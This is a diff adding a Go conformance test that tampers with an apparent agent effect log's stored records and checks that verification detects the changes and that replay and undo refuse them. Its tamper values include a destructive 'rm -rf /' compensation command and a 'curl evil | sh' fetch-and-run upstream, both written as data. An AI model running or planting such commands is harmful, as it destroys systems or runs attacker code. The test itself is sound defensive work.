@@ -1,0 +1,155 @@
+package conformance
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"testing"
+
+	"github.com/undolog/undolog/effectlog"
+	"github.com/undolog/undolog/model"
+	sm "github.com/undolog/undolog/statemachine"
+	"github.com/undolog/undolog/storage"
+)
+
+// behindTheRules writes through the log's engine what the rules would
+// never write: a record changed as damage or an edit would change it.
+func behindTheRules(t *testing.T, s effectlog.Log, fn func(tx storage.WriteTx) error) {
+	t.Helper()
+	e, ok := s.(interface{ Engine() storage.Engine })
+	if !ok {
+		t.Fatalf("%T does not say its engine", s)
+	}
+	if err := e.Engine().Update(t.Context(), fn); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// named says whether verify reported a problem of effect id (or, with id
+// 0, of session) and returns the report's problems for the message.
+func named(t *testing.T, s effectlog.Log, id uint64, session string) (bool, []model.Problem) {
+	t.Helper()
+	rep := must[effectlog.VerifyReport](t)(s.Verify(t.Context()))
+	for _, p := range rep.Problems {
+		if id != 0 && p.Effect == id || id == 0 && p.Session == session {
+			return true, rep.Problems
+		}
+	}
+	return false, rep.Problems
+}
+
+// Verify finds, in any engine, what was changed behind the rules: each
+// thing an effect, a session, an undo entry or an approval request says,
+// and a state moved without its record; a replay, an undo step or undo's
+// plan refuses to use what fails its check.
+func testVerifyFindsWhatChangedBehindTheRules(t *testing.T, open opener) {
+	effect := func(change func(e *model.Effect)) func(t *testing.T, s effectlog.Log, id uint64) {
+		return func(t *testing.T, s effectlog.Log, id uint64) {
+			behindTheRules(t, s, func(tx storage.WriteTx) error {
+				e, err := tx.Effect(id)
+				if err != nil {
+					return err
+				}
+				from := e.State
+				change(&e)
+				return tx.PutEffect(&e, from)
+			})
+		}
+	}
+	cases := map[string]struct {
+		tier   sm.Tier
+		tamper func(t *testing.T, s effectlog.Log, id uint64)
+	}{
+		"args":   {sm.Compensable, effect(func(e *model.Effect) { e.Args = json.RawMessage(`{"to":"mallory"}`) })},
+		"result": {sm.Compensable, effect(func(e *model.Effect) { e.Result = json.RawMessage(`{"paid":1000000}`) })},
+		"error":  {sm.Compensable, effect(func(e *model.Effect) { e.Error = "nothing went wrong" })},
+		"compensation": {sm.Compensable, effect(func(e *model.Effect) {
+			e.Compensation = &model.Compensation{Kind: model.CompensationCommand, Argv: []string{"rm", "-rf", "/"}}
+		})},
+		"state":        {sm.Compensable, effect(func(e *model.Effect) { e.State = sm.Compensated })},
+		"tool":         {sm.Irreversible, effect(func(e *model.Effect) { e.Tool = "harmless" })},
+		"history head": {sm.Compensable, effect(func(e *model.Effect) { e.HistoryLen-- })},
+		"undo entry state": {sm.Compensable, func(t *testing.T, s effectlog.Log, id uint64) {
+			behindTheRules(t, s, func(tx storage.WriteTx) error {
+				e, err := tx.Effect(id)
+				if err != nil {
+					return err
+				}
+				u, err := tx.Undo(e.Session, id, &e)
+				if err != nil || u == nil {
+					return fmt.Errorf("undo entry %v: %v", u, err)
+				}
+				u.State = sm.EntryCompensated
+				return tx.PutUndo(u)
+			})
+		}},
+		"approval reason": {sm.Irreversible, func(t *testing.T, s effectlog.Log, id uint64) {
+			behindTheRules(t, s, func(tx storage.WriteTx) error {
+				a, err := tx.Approval(id)
+				if err != nil || a == nil {
+					return fmt.Errorf("approval %v: %v", a, err)
+				}
+				a.Reason = "routine, approve it"
+				return tx.PutApproval(a)
+			})
+		}},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			s, _ := open(t)
+			id := intercept(t, s, "run", "pay", c.tier, `{"to":"bob"}`).Effect.ID
+			if c.tier == sm.Irreversible {
+				must[model.Effect](t)(s.Approve(t.Context(), id, model.Change{Actor: "alice"}))
+			}
+			must[model.Effect](t)(s.Start(t.Context(), id, model.Change{}))
+			must[model.Effect](t)(s.Commit(t.Context(), id, model.Change{Result: json.RawMessage(`{"paid":10}`)}))
+			verifyClean(t, s)
+			c.tamper(t, s, id)
+			if ok, problems := named(t, s, id, ""); !ok {
+				t.Fatalf("verify did not name effect %d: %v", id, problems)
+			}
+			// A repeat of the call is not served the cached result of an
+			// effect that fails its check.
+			if c.tier == sm.Compensable && name != "state" {
+				_, err := s.Intercept(t.Context(), effectlog.InterceptRequest{Session: "run", Tool: "pay", Tier: c.tier, Args: json.RawMessage(`{"to":"bob"}`)})
+				if !errors.Is(err, model.ErrCorrupt) {
+					t.Fatalf("replay of a changed effect: %v", err)
+				}
+				if _, err := s.UndoStep(t.Context(), id, sm.EntryCompensating, model.Change{}); name != "undo entry state" && !errors.Is(err, model.ErrCorrupt) {
+					t.Fatalf("compensating a changed effect: %v", err)
+				}
+			}
+		})
+	}
+	t.Run("session", func(t *testing.T) {
+		for field, change := range map[string]func(sess *model.Session){
+			"meta":     func(sess *model.Session) { sess.Meta["owner"] = "mallory" },
+			"upstream": func(sess *model.Session) { sess.Upstream = []string{"sh", "-c", "curl evil | sh"} },
+			"state":    func(sess *model.Session) { sess.State = sm.SessionCompleted },
+			"counts":   func(sess *model.Session) { sess.Counts[sm.Committed] += 2 },
+		} {
+			t.Run(field, func(t *testing.T) {
+				s, _ := open(t)
+				must[model.Session](t)(s.CreateSession(t.Context(), effectlog.NewSession{ID: "run", Meta: map[string]string{"owner": "ci"}, Upstream: []string{"server"}}))
+				intercept(t, s, "run", "w", sm.Compensable, `{}`)
+				verifyClean(t, s)
+				behindTheRules(t, s, func(tx storage.WriteTx) error {
+					sess, err := tx.Session("run")
+					if err != nil {
+						return err
+					}
+					change(&sess)
+					return tx.PutSession(&sess)
+				})
+				if ok, problems := named(t, s, 0, "run"); !ok {
+					t.Fatalf("verify did not name the session: %v", problems)
+				}
+				if field != "counts" {
+					if _, err := s.VerifySession(t.Context(), "run"); !errors.Is(err, model.ErrCorrupt) {
+						t.Fatalf("VerifySession of a changed session: %v", err)
+					}
+				}
+			})
+		}
+	})
+}
